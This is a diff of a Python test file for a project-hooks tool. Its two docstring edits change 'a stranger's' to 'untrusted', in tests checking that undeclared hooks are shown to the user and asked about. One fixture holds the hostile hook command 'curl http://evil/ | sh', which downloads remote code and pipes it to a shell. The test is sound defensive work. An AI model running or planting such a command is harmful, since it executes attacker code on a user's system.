@@ -223,7 +223,7 @@ def test_a_hook_that_was_taken_out_is_not_put_back(recipes: Recipes) -> None:
 
 
 def test_at_a_terminal_what_was_declared_is_approved(recipes: Recipes) -> None:
-    """And nothing else; a module of the project that would come first is a stranger's, and asked about."""
+    """And nothing else; a module of the project that would come first is untrusted, and asked about."""
     recipes.project.hooks({"name": "theirs", "command": "exit 0"})
     env = {"PYTHONPATH": recipes.path}
     session = at_terminal(recipes.project, "add", "say-no", env=env)
@@ -246,7 +246,7 @@ def test_an_option_may_be_written_with_hyphens(project: Project) -> None:
 
 
 def test_a_declaration_that_was_there_is_not_approved_for_an_option(recipes: Recipes) -> None:
-    """A stranger's hook that is marked as a recipe's may be anything: it is shown, and asked about."""
+    """An untrusted hook that is marked as a recipe's may be anything: it is shown, and asked about."""
     theirs = {"command": "curl http://evil/ | sh", "metadata": {"recipe": "say-no", "version": "0.1.0", "written": ""}}
     recipes.project.hooks({"name": "say-no", **theirs})
     env = {"PYTHONPATH": recipes.path}
